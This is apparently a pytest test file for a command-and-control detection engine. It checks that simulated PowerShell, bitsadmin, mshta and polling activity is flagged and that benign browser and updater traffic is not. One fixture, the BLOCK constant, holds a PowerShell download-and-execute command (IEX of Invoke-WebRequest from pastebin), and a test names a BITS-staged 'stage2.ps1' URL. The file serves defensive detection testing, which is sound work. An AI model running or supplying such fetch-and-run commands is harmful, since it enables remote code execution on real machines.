from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from c2hunt.correlate.behaviour import beacon_table
from c2hunt.detect import Engine
from c2hunt.detect.testing import event, query_rows, sysmon
from c2hunt.emulate import MANIFEST, Simulation, manifest_files, simulate, write
from c2hunt.knowledge import packaged
from c2hunt.normalize.schema import POWERSHELL_CHANNEL
from c2hunt.read import read_events

SEED = 7
Hunted = tuple[Simulation, Engine]


@pytest.fixture(scope="module")
def hunted(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hunted]:
    out = tmp_path_factory.mktemp("sim")
    sim = simulate(SEED)
    engine = Engine(packaged())
    engine.load(read_events(manifest_files(write(sim, out, "jsonl"))))
    engine.detect()
    yield sim, engine
    engine.close()


def _key(guid: str) -> str:
    return guid.strip("{}").upper()


def _signals(engine: Engine, guids: tuple[str, ...]) -> dict[str, set[str]]:
    guids = tuple(_key(g) for g in guids)
    rows = engine.con.execute(
        "SELECT f.ProcessGuid, s.signal FROM findings f JOIN signals s USING (finding_id) "
        "WHERE list_contains(?, f.ProcessGuid)",
        [list(guids)],
    ).fetchall()
    found: dict[str, set[str]] = {g: set() for g in guids}
    for guid, signal in rows:
        found[guid].add(signal)
    return found


@pytest.mark.parametrize(
    ("scenario", "expected"),
    [
        ("test1_pastebin_powershell", {"script_block_fetch_exec", "polling"}),
        ("test2_github_python", {"polling"}),
        ("test3_telegram_curl", {"response_file"}),
        ("test4_scheduled_task", {"scheduled_task", "task_host_spawn", "script_block_fetch_exec"}),
    ],
)
def test_each_test_is_caught_by_its_own_evidence(
    hunted: Hunted, scenario: str, expected: set[str]
) -> None:
    sim, engine = hunted
    guids = next(s for s in sim.scenarios if s.name == scenario).process_guids
    for guid, signals in _signals(engine, guids).items():
        assert expected <= signals, guid


def test_test2_polls_every_30_seconds(hunted: Hunted) -> None:
    sim, engine = hunted
    (guid,) = next(s for s in sim.scenarios if s.name == "test2_github_python").process_guids
    evidence = engine.con.execute(
        "SELECT DISTINCT s.evidence FROM findings f JOIN signals s USING (finding_id) "
        "WHERE f.ProcessGuid = ? AND s.signal = 'polling'",
        [_key(guid)],
    ).fetchall()
    assert len(evidence) == 1
    assert evidence[0][0].startswith("reaches GitHub every 30.")
    assert "3 connections" in evidence[0][0] and evidence[0][0].endswith("per process)")


def test_browsing_is_not_periodic(hunted: Hunted) -> None:
    """Every browser's connections to each site, scored like a finding's: none periodic."""
    _, engine = hunted
    engine.con.execute(
        """
        CREATE OR REPLACE TEMP TABLE browse AS
        SELECT 'process' AS scope, Computer || ProcessGuid AS key, d.dest_name AS service,
               c._messageTime AS t
        FROM c2_connections c JOIN c2_destinations d USING (finding_id)
        WHERE regexp_matches(c.Image, '(chrome|msedge)\\.exe$')
        """
    )
    beacon_table(engine.con, packaged(), "browse")
    total, periodic = engine.con.execute(
        "SELECT count(*), count(*) FILTER (WHERE periodic) FROM c2_beacons WHERE connections >= 3"
    ).fetchone()
    assert total > 20
    assert periodic == 0


def test_benign_baseline_reports_nothing(hunted: Hunted) -> None:
    sim, engine = hunted
    actors = [_key(g) for s in sim.scenarios for g in s.process_guids]
    stray = engine.con.execute(
        "SELECT Computer, Image, dest_name FROM findings WHERE NOT list_contains(?, ProcessGuid)",
        [actors],
    ).fetchall()
    assert stray == []


def _hunt(paths: list[Path]) -> Engine:
    engine = Engine(packaged())
    engine.load(read_events(paths))
    engine.detect()
    return engine


def test_bitsadmin_transfer_is_one_finding(datasets: Path) -> None:
    engine = _hunt(sorted(datasets.glob("jsonl/cmd_bitsadmin_download_psh_script_*.json")))
    rows = engine.con.execute(
        "SELECT Image, dest_name, dest_source, DestinationIp FROM findings"
    ).fetchall()
    assert rows == [
        (
            "C:\\Windows\\System32\\bitsadmin.exe",
            "raw.githubusercontent.com",
            "bits_service",
            "151.101.208.133",
        )
    ]
    signals = {s for (s,) in engine.con.execute("SELECT signal FROM signals").fetchall()}
    assert signals == {"listed_binary", "service_category", "url_in_command_line", "bits_transfer"}


def test_updaters_using_bits_are_not_findings(datasets: Path) -> None:
    engine = _hunt([datasets / "evtx" / "bits_openvpn.evtx"])
    jobs = engine.con.execute("SELECT count(*) FROM c2_bits_jobs").fetchone()[0]
    assert jobs > 100
    assert engine.con.execute("SELECT count(*) FROM findings").fetchone()[0] == 0


def test_mshta_is_not_counted_twice_by_security_5156(datasets: Path) -> None:
    engine = _hunt(sorted(datasets.glob("jsonl/cmd_mshta_javascript_getobject_sct_*.json")))
    rows = engine.con.execute("SELECT Image, dest_name FROM findings").fetchall()
    assert rows == [("C:\\Windows\\System32\\mshta.exe", "raw.githubusercontent.com")]


def _scenario_findings(hunted: Hunted, name: str) -> list[tuple[Any, ...]]:
    sim, engine = hunted
    guids = [_key(g) for g in next(s for s in sim.scenarios if s.name == name).process_guids]
    return engine.con.execute(
        "SELECT Computer, Image, dest_name, dest_source, DestinationPort, lineage_source, "
        "f.evidence[1].kind, f.evidence[1].text, "
        "list_sort(list(s.signal)) FROM findings f JOIN signals s USING (finding_id) "
        "WHERE list_contains(?, f.ProcessGuid) GROUP BY ALL ORDER BY dest_name DESC",
        [guids],
    ).fetchall()


def test_bits_jobs_are_findings_of_the_process_that_created_them(hunted: Hunted) -> None:
    """bitsadmin.exe and Start-BitsTransfer never connect: svchost.exe (BITS) does."""
    rows = _scenario_findings(hunted, "bits_transfer")
    signals = ["bits_transfer", "listed_binary", "service_category", "url_in_command_line"]
    raw = "https://raw.githubusercontent.com/argus-lab/c2-test/main/stage2.ps1"
    assert [(r[0], r[1], r[2], r[3], r[4], r[5], r[6], r[8]) for r in rows] == [
        ("WS-ARGUS-01", r"C:\Windows\System32\bitsadmin.exe", "raw.githubusercontent.com",
         "bits_url", 443, "sysmon_1", "bits", signals),
        ("WS-ARGUS-01", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
         "pastebin.com", "bits_url", 443, "sysmon_1", "bits", signals),
    ]  # fmt: skip
    assert rows[0][7].startswith(
        f'BITS job "argus" to {raw} created by C:\\Windows\\System32\\bitsadmin.exe (PID '
    )
    assert ", downloaded by the BITS service from 185.199.11" in rows[0][7]
    assert rows[1][7].startswith('BITS job "BITS Transfer" to https://pastebin.com/raw/')
    sim, engine = hunted
    guids = next(s for s in sim.scenarios if s.name == "bits_transfer").process_guids
    own = engine.con.execute(
        "SELECT count(*) FROM c2_connections WHERE list_contains(?, guid_key)",
        [[_key(g) for g in guids]],
    ).fetchone()
    assert own == (0,)


def test_updaters_bits_jobs_to_listed_services_are_not_findings(hunted: Hunted) -> None:
    _, engine = hunted
    jobs = engine.con.execute(
        "SELECT DISTINCT regexp_extract(creator_image, '[^\\\\]+$'), dest_name FROM c2_bits_jobs "
        "WHERE finding_id NOT IN (SELECT finding_id FROM findings) ORDER BY ALL"
    ).fetchall()
    assert jobs == [
        ("GoogleUpdate.exe", "storage.googleapis.com"),
        ("MicrosoftEdgeUpdate.exe", "msedge.b.tlu.dl.delivery.mp.microsoft.com"),
        ("OneDriveStandaloneUpdater.exe", "g.live.com"),
        ("OneDriveStandaloneUpdater.exe", "oneclient.sfx.ms"),
        ("chrome.exe", "storage.googleapis.com"),
    ]


def test_security_5156_is_the_finding_where_sysmon_logs_no_connection(hunted: Hunted) -> None:
    rows = _scenario_findings(hunted, "security_5156")
    assert [r[:7] + r[8:] for r in rows] == [
        ("WS-LAB-14", r"C:\Windows\System32\mshta.exe", "raw.githubusercontent.com",
         "dns_process", 443, "sysmon_1", "connection",
         ["listed_binary", "service_category", "url_in_command_line"]),
    ]  # fmt: skip
    assert rows[0][7].startswith(r"Security 5156 \device\harddiskvolume3\windows\system32")
    assert rows[0][7].endswith(":443, no Sysmon 3 names it")
    _, engine = hunted
    assert engine.con.execute(
        "SELECT count(*) FROM c2_connections WHERE Computer = 'WS-LAB-14'"
    ).fetchone() == (0,)


def test_security_5156_never_counts_a_sysmon_connection_twice(hunted: Hunted) -> None:
    """WS-ARGUS-01 audits every connection: its findings are its Sysmon 3s, one each."""
    sim, engine = hunted
    from_5156 = engine.con.execute(
        "SELECT Computer FROM findings WHERE starts_with(evidence[1].text, 'Security 5156')"
    ).fetchall()
    assert from_5156 == [("WS-LAB-14",)]
    for name in ("test1_pastebin_powershell", "test2_github_python", "test3_telegram_curl"):
        guids = next(s for s in sim.scenarios if s.name == name).process_guids
        sysmon3 = sum(1 for e in sim.events if e.event_id == 3 and e.get("ProcessGuid") in guids)
        found = engine.con.execute(
            "SELECT count(*) FROM findings WHERE list_contains(?, ProcessGuid)",
            [[_key(g) for g in guids]],
        ).fetchone()
        assert found == (sysmon3,), name


PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
BLOCK = "IEX (Invoke-WebRequest https://pastebin.com/raw/Ab12Cd34 -UseBasicParsing).Content"


def _powershell(guid: str, pid: int, started: int) -> list[dict[str, object]]:
    """A PowerShell process that resolves and reaches pastebin.com 10 s after it starts."""
    common = {"ProcessGuid": guid, "ProcessId": pid, "Image": PS}
    return [
        sysmon(1, **common, _messageTime=started, CommandLine=f"{PS} -NoProfile"),
        sysmon(22, **common, _messageTime=started + 9_000, QueryName="pastebin.com",
               QueryResults="::ffff:104.20.67.143;"),
        sysmon(3, **common, _messageTime=started + 10_000, DestinationIp="104.20.67.143",
               DestinationPort=443),
    ]  # fmt: skip


def _block_signals(block_pid: int | None, block_time: int) -> list[tuple[Any, ...]]:
    rows = [
        *_powershell("{A}", 100, 1_000_000),
        *_powershell("{B}", 200, 1_002_000),
        event(POWERSHELL_CHANNEL, 4104, ProcessId=block_pid, _messageTime=block_time,
              ScriptBlockText=BLOCK),
    ]  # fmt: skip
    return query_rows(
        rows,
        "SELECT trim(f.ProcessGuid, '{}'), s.evidence FROM findings f "
        "JOIN signals s USING (finding_id) WHERE s.signal = 'script_block_fetch_exec' ORDER BY 1",
    )


FETCH_RUN = "script block fetches from pastebin.com (Invoke-WebRequest) and runs it (IEX), logged "


@pytest.mark.parametrize(
    ("block_pid", "block_time", "expected"),
    [
        # the PowerShell host's PID (System/Execution): only that process's finding
        (100, 1_004_000, [("A", FETCH_RUN + "by the same process (PID 100)")]),
        (200, 1_004_000, [("B", FETCH_RUN + "by the same process (PID 200)")]),
        # a source without the PID: every process on the host running when it was logged
        (
            None,
            1_004_000,
            [(g, FETCH_RUN + "on the same host (no process id to compare)") for g in "AB"],
        ),
        # ...but not a process started after it (more than the clock skew later)
        (None, 996_000, [("A", FETCH_RUN + "on the same host (no process id to compare)")]),
        # ...nor, with a PID, a block logged before its process started
        (100, 990_000, []),
        # a block after the connection is not what the process ran before connecting
        (100, 1_020_000, []),
    ],
)
def test_script_block_by_process_identity_or_host(
    block_pid: int | None, block_time: int, expected: list[tuple[str, str]]
) -> None:
    assert _block_signals(block_pid, block_time) == expected


@pytest.mark.parametrize(
    ("fmt", "logged"),
    [
        ("xml", "by the same process (PID "),  # System/Execution ProcessID
        ("flat", "by the same process (PID "),  # OTRF: ExecutionProcessID
    ],
)
def test_emulated_script_blocks_by_format(tmp_path: Path, fmt: str, logged: str) -> None:
    sim = simulate(SEED)
    write(sim, tmp_path, fmt)
    (guid,) = next(s for s in sim.scenarios if s.name == "test1_pastebin_powershell").process_guids
    engine = _hunt(manifest_files(tmp_path / MANIFEST))
    evidence = engine.con.execute(
        "SELECT DISTINCT s.evidence FROM findings f JOIN signals s USING (finding_id) "
        "WHERE f.ProcessGuid = ? AND s.signal = 'script_block_fetch_exec'",
        [_key(guid)],
    ).fetchall()
    assert len(evidence) == 1
    assert evidence[0][0].startswith(
        "script block fetches from pastebin.com (Invoke-WebRequest) and runs it "
        f"(Invoke-Expression), logged {logged}"
    )
